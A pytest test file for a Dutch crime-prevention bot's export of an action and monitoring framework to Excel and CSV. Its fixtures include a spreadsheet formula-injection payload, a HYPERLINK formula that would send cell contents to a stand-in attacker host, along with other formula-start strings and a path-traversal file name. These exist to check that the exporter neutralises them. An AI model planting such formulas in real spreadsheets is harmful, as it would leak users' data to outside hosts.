"""Export of the action / monitoring framework (appendix 4) to .xlsx and CSV."""

from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest

from bot.export import (
    EXCEL_CELL_LIMIT,
    ExportRow,
    actions_csv,
    actions_workbook,
    export_filename,
    format_effect,
    format_period,
    summarise_quantity,
)
from bot.i18n import _, pgettext, use_locale

NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)  # Monday of ISO week 48; 10:00 in Amsterdam
CREATED = datetime(2026, 7, 1, 10, 0, 15, tzinfo=UTC)  # summer time: 12:00:15 local
UPDATED = datetime(2026, 11, 20, 16, 45, tzinfo=UTC)  # winter time: 17:45 local
CREATED_LOCAL = datetime(2026, 7, 1, 12, 0, 15)
UPDATED_LOCAL = datetime(2026, 11, 20, 17, 45)
PROJECT, MUNICIPALITY = "Veilig Wonen Oost", "Rotterdam"

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik hier")'
LONG_NOTES = "Met name sociale huurwoningen zijn nog niet goed beveiligd. " * 700  # 42,000 chars
UNICODE_AREA = "Ĳsselmonde – Oude Noorden ✓"
UNICODE_PROBLEM = "Woningen slecht beveiligd 🏠 (insluiping én braak)"

EN_HEADERS = [
    "Action id", "Problem area", "Problem", "Action (what)", "Aim", "Type", "Target",
    "Partner", "Period", "Capacity", "Notes", "Executed", "Reason", "Expected effect",
    "Results", "Quantity", "Unit", "Created", "Last changed",
]
NL_HEADERS = [
    "Actie-id", "Probleemgebied", "Probleem", "Actie (wat)", "Doel", "Typering", "Gericht op",
    "Partij", "Periode", "Inzet", "Toelichting", "Uitgevoerd", "Reden", "Verwachte effect",
    "Resultaten", "Aantal", "Eenheid", "Aangemaakt", "Laatst gewijzigd",
]


def _row(**fields: Any) -> ExportRow:
    base: dict[str, Any] = dict(
        code="A1", area="", problem="", what="", aim="", type=None, target=None, partner="",
        period_start=None, period_end=None, capacity="", notes="", status="open", reason=None,
        expected_effect=None, results=(), created_at=CREATED, updated_at=UPDATED,
    )
    base.update(fields)
    return ExportRow(**base)


A12 = dict(
    code="A12", area="Gebied X", problem="Inbraken m.n. via achterpaden",
    what="Intensivering toezicht", aim="Inbraakpreventie", type="proactie", target="dader",
    period_start=date(2026, 11, 23), period_end=date(2026, 12, 6),
    capacity="2 pers., tussen 19 en 23 uur extra ronde", notes="Debriefing vastleggen",
    expected_effect=date(2026, 12, 14),
)
A3 = dict(
    code="A3", area=UNICODE_AREA, problem=UNICODE_PROBLEM, what="Plaatsen sloten",
    aim="Inbraakpreventie", type="preventie", target="domein",
    period_start=date(2027, 1, 18), period_end=date(2027, 1, 31), capacity="2 fte",
    notes=LONG_NOTES, expected_effect=date(2027, 2, 1),
)
A1 = dict(
    code="A1", area="Gebied Y", problem="Fietsendiefstal en inbraak",
    what="Surveillance in de avond", aim="Heterdaad", type="repressie", target="dader",
    period_start=date(2026, 11, 2), period_end=date(2026, 11, 15), capacity="1 auto",
    notes="Bel\x07 wijkagent",  # a control character that XML cannot hold
)

ROWS = [  # deliberately not in order
    _row(**A12, partner="Stadstoezicht", status="not_done",
         reason="Geen capaciteit door evenement"),
    _row(**A3, partner="Woningcorporatie Vestia", status="open",
         results=(("Sloten vervangen", 12.0, "sloten"), ("Bewonersavond", 1.0, "avond"))),
    _row(code="A7", problem=HYPERLINK, what="Nazorgbezoek slachtoffers", aim="@SUM(A1:A9)",
         type="nazorg", target="slachtoffer", period_start=date(2026, 12, 21),
         period_end=date(2027, 1, 17), capacity="-2 fte", notes="+31 6 12345678 bellen",
         expected_effect=date(2027, 2, 22),
         results=(("Brief bezorgd", 30.0, None), ("Bezoeken", 5.0, None))),
    _row(**A12, partner="Politie", status="done",
         results=(("Extra rondes gelopen", 4.0, "rondes"), ("Nog twee rondes", 2.0, "Rondes"),
                  ("Debriefing vastgelegd", None, None))),
    _row(**A1, partner="Stadstoezicht", status="open"),
    _row(**A3, partner="Gemeente", status="cancelled",
         reason="Vervallen: subsidie loopt via corporatie",
         results=(("Uren voorlichting", 2.5, "uur"), ("Nog een uur", 1.0, "uur"))),
    _row(**A1, partner="Politie", status="done",
         results=(("Controle achterpaden", 3.0, "rondes"),)),
]

_TAIL = [CREATED_LOCAL, UPDATED_LOCAL]
# The first sheet in English, in the expected order (action number, then partner).
EN_TABLE: list[list[Any]] = [
    ["A1", "Gebied Y", "Fietsendiefstal en inbraak", "Surveillance in de avond", "Heterdaad",
     "Repression", "Offender", "Politie", "wk 45-46", "1 auto", "Bel wijkagent", "yes", None,
     None, "Controle achterpaden", 3, "rondes", *_TAIL],
    ["A1", "Gebied Y", "Fietsendiefstal en inbraak", "Surveillance in de avond", "Heterdaad",
     "Repression", "Offender", "Stadstoezicht", "wk 45-46", "1 auto", "Bel wijkagent",
     "not yet", None, None, None, None, None, *_TAIL],
    ["A3", UNICODE_AREA, UNICODE_PROBLEM, "Plaatsen sloten", "Inbraakpreventie", "Prevention",
     "Place", "Gemeente", "wk 3-4", "2 fte", LONG_NOTES, "cancelled",
     "Vervallen: subsidie loopt via corporatie", "wk 5 onwards",
     "Uren voorlichting\nNog een uur", 3.5, "uur", *_TAIL],
    ["A3", UNICODE_AREA, UNICODE_PROBLEM, "Plaatsen sloten", "Inbraakpreventie", "Prevention",
     "Place", "Woningcorporatie Vestia", "wk 3-4", "2 fte", LONG_NOTES, "not yet", None,
     "wk 5 onwards", "Sloten vervangen\nBewonersavond", None, None, *_TAIL],
    ["A7", None, HYPERLINK, "Nazorgbezoek slachtoffers", "@SUM(A1:A9)", "Aftercare", "Victim",
     None, "wk 52-2", "-2 fte", "+31 6 12345678 bellen", "not yet", None, "wk 8 onwards",
     "Brief bezorgd\nBezoeken", 35, None, *_TAIL],
    ["A12", "Gebied X", "Inbraken m.n. via achterpaden", "Intensivering toezicht",
     "Inbraakpreventie", "Proaction", "Offender", "Politie", "wk 48-49",
     "2 pers., tussen 19 en 23 uur extra ronde", "Debriefing vastleggen", "yes", None,
     "wk 51 onwards", "Extra rondes gelopen\nNog twee rondes\nDebriefing vastgelegd", 6,
     "rondes", *_TAIL],
    ["A12", "Gebied X", "Inbraken m.n. via achterpaden", "Intensivering toezicht",
     "Inbraakpreventie", "Proaction", "Offender", "Stadstoezicht", "wk 48-49",
     "2 pers., tussen 19 en 23 uur extra ronde", "Debriefing vastleggen", "not done",
     "Geen capaciteit door evenement", "wk 51 onwards", None, None, None, *_TAIL],
]
NOTES, QUANTITY = EN_HEADERS.index("Notes"), EN_HEADERS.index("Quantity")


def _workbook(language: str = "en", rows: list[ExportRow] | None = None) -> Any:
    data = actions_workbook(ROWS if rows is None else rows, project=PROJECT,
                            municipality=MUNICIPALITY, language=language, generated_at=NOW)
    assert data[:2] == b"PK"  # a zip container, i.e. an .xlsx
    return openpyxl.load_workbook(io.BytesIO(data))


def _sheet_rows(ws: Any, first: int = 5) -> list[list[Any]]:
    return [list(r) for r in ws.iter_rows(min_row=first, values_only=True)]


def _truncated(table: list[list[Any]]) -> list[list[Any]]:
    """What Excel can hold: very long texts are cut at its cell limit with an ellipsis."""
    out = []
    for row in table:
        out.append([v[: EXCEL_CELL_LIMIT - 1] + "…" if isinstance(v, str)
                    and len(v) > EXCEL_CELL_LIMIT else v for v in row])
    return out


def _in(language: str, message: str) -> str:
    with use_locale(language):
        return _(message)


# --- the first sheet --------------------------------------------------------------------

def test_english_headers_bands_and_title() -> None:
    wb = _workbook("en")
    assert wb.sheetnames == ["Action framework", "Totals"]
    ws = wb.worksheets[0]
    title = ws["A1"].value
    assert PROJECT in title and MUNICIPALITY in title
    assert "23 November 2026" in title and "10:00" in title  # Europe/Amsterdam, not UTC
    assert "overdue" in ws["A2"].value
    assert [c.value for c in ws[4]] == EN_HEADERS
    assert ws["A3"].value == "Week X: agreed actions"
    assert ws["L3"].value == "Week X+1: monitoring"
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A3:K3", "L3:Q3"} <= merged  # agreement columns, monitoring columns


def test_dutch_rendering_follows_the_catalog() -> None:
    wb = _workbook("nl")
    ws = wb.worksheets[0]
    assert [c.value for c in ws[4]] == [_in("nl", h) for h in EN_HEADERS]
    assert ws["A3"].value == _in("nl", "Week X: agreed actions")
    assert ws["L3"].value == _in("nl", "Week X+1: monitoring")
    assert wb.sheetnames == [_in("nl", "Action framework"), _in("nl", "Totals")]
    assert "23 november 2026" in ws["A1"].value and "10:00" in ws["A1"].value  # Babel, nl
    with use_locale("nl"):
        assert ws["L5"].value == pgettext("executed", "yes")
        assert ws["F5"].value == _("Repression")


def test_dutch_headers_once_translated() -> None:
    if _in("nl", "Problem area") == "Problem area":
        pytest.skip("the nl catalog does not translate the export's messages yet "
                    "(run pybabel extract/update and translate locales/nl)")
    ws = _workbook("nl").worksheets[0]
    headers = [c.value for c in ws[4]]
    assert headers == NL_HEADERS
    assert headers != EN_HEADERS
    assert ws["A3"].value.casefold() == "week x: afgesproken acties"
    assert ws["L3"].value.casefold() == "week x+1: monitoring"
    by_partner = {(r[0], r[7]): r for r in _sheet_rows(ws)}
    assert by_partner["A1", "Politie"][11] == "ja"
    assert by_partner["A12", "Stadstoezicht"][11] == "niet uitgevoerd"
    assert by_partner["A3", "Gemeente"][11] == "vervallen"
    assert by_partner["A3", "Gemeente"][5:7] == ["Preventie", "Domein"]
    assert by_partner["A7", None][5:7] == ["Nazorg", "Slachtoffer"]
    assert by_partner["A12", "Politie"][5:7] == ["Proactie", "Dader"]
    assert by_partner["A7", None][13] == "wk 8 en verder"


def test_one_row_per_action_and_partner_sorted_with_values() -> None:
    ws = _workbook("en").worksheets[0]
    rows = _sheet_rows(ws)
    assert [(r[0], r[7]) for r in rows] == [
        ("A1", "Politie"), ("A1", "Stadstoezicht"), ("A3", "Gemeente"),
        ("A3", "Woningcorporatie Vestia"), ("A7", None), ("A12", "Politie"),
        ("A12", "Stadstoezicht"),
    ]
    assert rows == _truncated(EN_TABLE)


def test_cells_have_proper_types() -> None:
    ws = _workbook("en").worksheets[0]
    created, changed = ws["R5"], ws["S5"]
    assert created.is_date and created.value == CREATED_LOCAL  # naive local wall-clock time
    assert changed.is_date and changed.value == UPDATED_LOCAL
    assert "yyyy" in created.number_format
    assert ws["P5"].data_type == "n" and ws["P5"].value == 3
    assert ws["P7"].value == 3.5  # 2.5 + 1 uur
    assert ws["A5"].data_type == "s"


def test_formulas_are_stored_as_text() -> None:
    data = actions_workbook(ROWS, project=PROJECT, municipality=MUNICIPALITY, language="en",
                            generated_at=NOW)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    a7 = next(r for r in ws.iter_rows(min_row=5) if r[0].value == "A7")
    for cell, text in ((a7[2], HYPERLINK), (a7[4], "@SUM(A1:A9)"), (a7[9], "-2 fte"),
                       (a7[10], "+31 6 12345678 bellen")):
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel's own "'" marker: shown as typed, never evaluated
    assert not ws["B5"].quotePrefix


def test_unicode_long_texts_and_control_characters() -> None:
    ws = _workbook("en").worksheets[0]
    a3 = _sheet_rows(ws)[2]
    assert a3[1] == UNICODE_AREA and a3[2] == UNICODE_PROBLEM
    assert len(a3[NOTES]) == EXCEL_CELL_LIMIT and a3[NOTES].endswith("…")
    assert LONG_NOTES.startswith(a3[NOTES][:-1])
    assert _sheet_rows(ws)[0][NOTES] == "Bel wijkagent"


def test_overdue_open_rows_are_highlighted_and_explained() -> None:
    ws = _workbook("en").worksheets[0]
    legend = ws["A2"]
    overdue_colour = legend.fill.fgColor.rgb
    assert legend.fill.fill_type == "solid" and "overdue" in legend.value
    highlighted = {
        (row[0].value, row[7].value)
        for row in ws.iter_rows(min_row=5)
        if all(c.fill.fgColor.rgb == overdue_colour for c in row)
    }
    # A1 ended in week 46 and is still open for Stadstoezicht; Politie finished it. A3 and
    # A7 are open but their period has not ended; A12 (not done) is not "open".
    assert highlighted == {("A1", "Stadstoezicht")}


def test_styling_frozen_panes_and_autofilter() -> None:
    wb = _workbook("en")
    ws = wb.worksheets[0]
    assert ws.freeze_panes == "B5"  # below the header, with the action id in view
    assert ws.auto_filter.ref == f"A4:S{4 + len(ROWS)}"
    assert all(c.font.b for c in ws[4]) and ws["A3"].font.b and ws["L3"].font.b
    agreed, monitoring = ws["A3"].fill.fgColor.rgb, ws["L3"].fill.fgColor.rgb
    assert ws["A3"].fill.fill_type == "solid" and ws["L3"].fill.fill_type == "solid"
    assert agreed != monitoring
    assert all(c.alignment.wrap_text for c in ws[5])
    assert ws.column_dimensions["D"].width > ws.column_dimensions["A"].width
    assert wb.properties.creator == "wijkbot"
    assert PROJECT in wb.properties.title


def test_empty_export_is_a_valid_workbook_and_csv() -> None:
    ws = _workbook("en", rows=[]).worksheets[0]
    assert [c.value for c in ws[4]] == EN_HEADERS
    assert ws.auto_filter.ref == "A4:S4"
    assert _sheet_rows(ws) == []
    text = actions_csv([], language="en").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [EN_HEADERS]


def test_naive_generated_at_is_refused() -> None:
    with pytest.raises(ValueError):
        actions_workbook(ROWS, project=PROJECT, municipality=MUNICIPALITY,
                         generated_at=NOW.replace(tzinfo=None))


# --- totals -----------------------------------------------------------------------------

def test_totals_sheet_sums_per_partner_and_unit() -> None:
    ws = _workbook("en").worksheets[1]
    assert ws.title == "Totals"
    assert [c.value for c in ws[3]] == ["Partner", "Unit", "Quantity", "Number of results",
                                        "Actions"]
    assert _sheet_rows(ws, first=4) == [
        ["(no partner)", None, 35, 2, "A7"],
        ["Gemeente", "uur", 3.5, 2, "A3"],
        ["Politie", "rondes", 9, 3, "A1, A12"],  # "rondes" and "Rondes" are one unit
        ["Woningcorporatie Vestia", "avond", 1, 1, "A3"],
        ["Woningcorporatie Vestia", "sloten", 12, 1, "A3"],
    ]
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == "A3:E8"


# --- CSV --------------------------------------------------------------------------------

def _csv_expected(language: str) -> list[list[str]]:
    def text(value: Any) -> str:
        if value is None:
            return ""
        if isinstance(value, datetime):
            return value.strftime("%Y-%m-%d %H:%M")
        if isinstance(value, float):
            return str(value).replace(".", "," if language == "nl" else ".")
        return str(value)

    table = [[text(v) for v in row] for row in EN_TABLE]
    neutralised = {HYPERLINK: "'" + HYPERLINK, "@SUM(A1:A9)": "'@SUM(A1:A9)",
                   "-2 fte": "'-2 fte", "+31 6 12345678 bellen": "'+31 6 12345678 bellen"}
    return [[neutralised.get(v, v) for v in row] for row in table]


@pytest.mark.parametrize(("language", "separator"), [("nl", ";"), ("en", ",")])
def test_csv_round_trip(language: str, separator: str) -> None:
    data = actions_csv(ROWS, language=language)
    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    first_line = text.split("\r\n", 1)[0]
    assert first_line.count(separator) == len(EN_HEADERS) - 1
    parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    assert parsed[0] == [_in(language, h) for h in EN_HEADERS]
    body = parsed[1:]
    if language == "en":
        assert body == _csv_expected("en")
    else:
        # Untranslated cells (labels) follow the nl catalog; the data cells are the same.
        expected = _csv_expected("nl")
        label_columns = {5, 6, 8, 11, 13}
        for got, want in zip(body, expected, strict=True):
            assert [v for i, v in enumerate(got) if i not in label_columns] == [
                v for i, v in enumerate(want) if i not in label_columns
            ]
        assert body[2][QUANTITY] == "3,5"
        assert body[2][5] == _in("nl", "Prevention")
    assert len(body[2][NOTES]) == len(LONG_NOTES)  # the CSV keeps long texts whole


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_csv_neutralises_formula_starts(text: str) -> None:
    data = actions_csv([_row(what=text, notes=text)], language="en")
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1]
    assert row[3] == "'" + text and row[10] == "'" + text


def test_csv_keeps_ordinary_text_and_numbers_plain() -> None:
    data = actions_csv([_row(what="Flyers, posters; brieven", results=(("x", -2.0, "u"),))],
                       language="nl")
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))[1]
    assert row[3] == "Flyers, posters; brieven"
    assert row[QUANTITY] == "-2"  # a number, not text that could be a formula


# --- formatting helpers -----------------------------------------------------------------

@pytest.mark.parametrize(("start", "end", "expected"), [
    (date(2027, 1, 18), date(2027, 1, 24), "wk 3"),
    (date(2027, 1, 18), date(2027, 1, 31), "wk 3-4"),
    (date(2026, 12, 21), date(2027, 1, 17), "wk 52-2"),
    (date(2026, 12, 28), date(2027, 1, 10), "wk 53-1"),  # 2026 has 53 ISO weeks
    (date(2026, 1, 12), date(2027, 1, 31), "wk 3 2026-wk 4 2027"),  # "wk 3-4" would lie
    (date(2026, 1, 12), date(2028, 1, 9), "wk 3 2026-wk 1 2028"),
    (date(2027, 1, 18), None, "from wk 3"),
    (None, date(2027, 1, 24), "until wk 3"),
    (None, None, ""),
])
def test_period_in_iso_weeks(start: date | None, end: date | None, expected: str) -> None:
    with use_locale("en"):
        assert format_period(start, end) == expected


def test_expected_effect() -> None:
    with use_locale("en"):
        assert format_effect(date(2027, 2, 22)) == "wk 8 onwards"
        assert format_effect(date(2027, 1, 1)) == "wk 53 onwards"  # ISO week of 2026
        assert format_effect(None) == ""


def test_quantity_summary() -> None:
    assert summarise_quantity([("a", 2.0, "sloten"), ("b", 1.0, " Sloten ")]) == (3, "sloten")
    assert summarise_quantity([("a", 2.0, "sloten"), ("b", None, None)]) == (2, "sloten")
    assert summarise_quantity([("a", 2.0, "sloten"), ("b", 1.0, "avond")]) == (None, "")
    assert summarise_quantity([("a", 0.1, None), ("b", 0.2, None)]) == (0.3, "")
    assert summarise_quantity([("a", None, "x")]) == (None, "")
    assert summarise_quantity([]) == (None, "")


# --- file names -------------------------------------------------------------------------

def test_export_filename() -> None:
    assert (export_filename(PROJECT, NOW, "xlsx", language="en")
            == "action-framework-veilig-wonen-oost-2026-11-23.xlsx")
    with use_locale("en"):
        assert export_filename(PROJECT, NOW, ".CSV") == (
            "action-framework-veilig-wonen-oost-2026-11-23.csv")
    # 23:30 UTC is already the next day in Amsterdam.
    late = datetime(2026, 11, 23, 23, 30, tzinfo=UTC)
    assert export_filename(PROJECT, late, "csv", language="en").endswith("-2026-11-24.csv")
    nasty = export_filename('Ĳssel/../..\\ "Wijk": *Oost* 🏠', NOW, "x/../lsx", language="en")
    assert re.fullmatch(r"[a-z0-9-]+\.[a-z0-9]+", nasty)
    assert nasty == "action-framework-ijssel-wijk-oost-2026-11-23.xlsx"
    nl = export_filename(PROJECT, NOW, "xlsx", language="nl")
    assert re.fullmatch(r"[a-z0-9-]+-veilig-wonen-oost-2026-11-23\.xlsx", nl)
    if _in("nl", "action-framework") != "action-framework":
        assert nl != export_filename(PROJECT, NOW, "xlsx", language="en")


def test_rows_are_not_mutated_and_are_hashable() -> None:
    before = list(ROWS)
    actions_workbook(ROWS, project=PROJECT, municipality=MUNICIPALITY, generated_at=NOW)
    actions_csv(ROWS)
    assert before == ROWS
    assert len({*ROWS, replace(ROWS[0])}) == len(ROWS)
